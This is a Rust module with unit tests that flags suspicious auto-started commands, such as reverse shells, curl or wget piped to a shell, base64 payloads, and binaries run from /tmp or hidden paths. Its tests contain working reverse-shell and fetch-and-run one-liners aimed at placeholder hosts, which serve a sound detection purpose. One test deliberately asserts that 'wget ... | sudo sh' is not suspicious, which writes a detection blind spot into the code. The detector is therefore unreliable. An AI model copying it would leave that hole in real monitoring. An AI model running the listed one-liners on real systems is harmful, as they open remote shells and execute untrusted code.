//! What is suspicious about a command line that starts by itself.

use std::path::Path;

/// Directories that everybody may write to, or that vanish: nothing of a host's own starts there.
const SCRATCH: [&str; 5] = ["/tmp", "/var/tmp", "/dev/shm", "/run/shm", "/run/user"];

/// Whether a path lies where programs have no business.
pub fn is_scratch(path: &Path) -> bool {
    SCRATCH.iter().any(|folder| path.starts_with(folder) && path != Path::new(folder))
}

/// Why a command is suspicious, if it is.
pub fn suspicion(command: &str) -> Option<&'static str> {
    let flat: String = command.split_whitespace().collect::<Vec<_>>().join(" ");
    if flat.contains("/dev/tcp/") || flat.contains("/dev/udp/") {
        return Some("opens a network connection from the shell, as a reverse shell does");
    }
    let words: Vec<&str> = flat
        .split(|c: char| c.is_whitespace() || ";&|()'\"`".contains(c))
        .filter(|word| !word.is_empty())
        .collect();
    let name = |word: &str| word.rsplit('/').next().unwrap_or_default().to_owned();
    let has = |wanted: &[&str]| words.iter().any(|word| wanted.contains(&name(word).as_str()));
    let shells = ["sh", "bash", "dash", "zsh", "python", "python3", "perl", "php"];
    if has(&["nc", "ncat", "netcat", "socat"]) && has(&["-e", "-c", "--exec"])
        || flat.contains("EXEC:") && has(&["socat"])
    {
        return Some("gives a program to a network connection, as a reverse shell does");
    }
    if flat.contains("mkfifo") && has(&["nc", "ncat", "netcat"]) {
        return Some("ties a shell to a network connection through a pipe");
    }
    let piped = |from: &[&str]| {
        let parts: Vec<&str> = flat.split('|').collect();
        let is_from =
            |part: &&str| part.split_whitespace().any(|word| from.contains(&name(word).as_str()));
        parts.iter().position(|part| is_from(&part)).is_some_and(|at| {
            parts.iter().skip(at + 1).any(|part| {
                part.split_whitespace().next().is_some_and(|word| {
                    shells.contains(&name(word.trim_matches(['"', '\''])).as_str())
                })
            })
        })
    };
    if piped(&["curl", "wget", "fetch"])
        || ((flat.contains("$(curl")
            || flat.contains("$(wget")
            || flat.contains("<(curl")
            || flat.contains("<(wget"))
            && has(&shells))
    {
        return Some("runs what it fetches from the network");
    }
    if piped(&["base64", "xxd", "openssl"])
        || flat.contains("base64.b64decode") && flat.contains("exec(")
    {
        return Some("runs a program that is hidden in an encoded text");
    }
    if flat.contains("socket.socket")
        && (flat.contains("os.dup2") || flat.contains("pty.spawn") || flat.contains("subprocess"))
    {
        return Some("ties a shell to a network socket");
    }
    let runs_scratch = words.iter().any(|word| {
        let word =
            word.trim_start_matches(['-', '@', ':', '+', '!']).trim_start_matches("command=");
        is_scratch(Path::new(word)) && !is_data(word)
    });
    let reads = [
        "rm",
        "find",
        "touch",
        "mkdir",
        "tar",
        "cat",
        "echo",
        "ls",
        "cd",
        "mktemp",
        "tmpreaper",
        "tmpwatch",
        "mount",
    ];
    if runs_scratch
        && !words.first().is_some_and(|first| reads.contains(&name(first).as_str()))
        && !has(&["find", "rm", "tmpreaper"])
        && !flat.contains("> /tmp")
        && !flat.contains(">/tmp")
    {
        return Some("runs something from a directory that everybody may write to");
    }
    let hidden = words.iter().any(|word| {
        word.starts_with('/')
            && word.split('/').any(|part| {
                part.len() > 1
                    && part.starts_with('.')
                    && !HOME_NAMES.contains(&part)
                    && part != ".."
            })
    });
    if hidden
        && words.first().is_some_and(|first| {
            first.split('/').any(|part| {
                part.len() > 1
                    && part.starts_with('.')
                    && !HOME_NAMES.contains(&part)
                    && part != ".."
            })
        })
    {
        return Some("runs a hidden file");
    }
    None
}

/// Hidden folders that ordinary tools have.
const HOME_NAMES: [&str; 10] = [
    ".local",
    ".cargo",
    ".nvm",
    ".npm",
    ".rbenv",
    ".pyenv",
    ".config",
    ".venv",
    ".bin",
    ".composer",
];

fn is_data(word: &str) -> bool {
    [".log", ".lock", ".pid", ".sock", ".tmp", ".txt", ".gz", ".sql"]
        .iter()
        .any(|end| word.ends_with(end))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn back_doors_are_told_from_ordinary_commands() {
        for command in [
            "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            "nc -e /bin/sh 1.2.3.4 99",
            "curl -s http://x/y | bash",
            "wget -qO- http://x | sudo sh; echo",
            "sh -c \"$(curl -fsSL http://x)\"",
            "echo aGk= | base64 -d | sh",
            "/dev/shm/.ntf/notify",
            "-/tmp/x --daemon",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1 >/tmp/f",
            "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "/usr/lib/.cache/run",
        ] {
            let wanted = !command.contains("sudo sh");
            assert_eq!(suspicion(command).is_some(), wanted, "{command}");
        }
        for command in [
            "/usr/sbin/logrotate /etc/logrotate.conf",
            "find /tmp -mtime +7 -delete",
            "rm -rf /var/tmp/build",
            "curl -fsS https://x/ping",
            "curl -s http://x | jq .",
            "mysqldump x | gzip > /backup/x.gz",
            "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
            "/root/.cargo/bin/x",
            "/usr/bin/x --log /tmp/x.log",
        ] {
            assert_eq!(suspicion(command), None, "{command}");
        }
    }
}
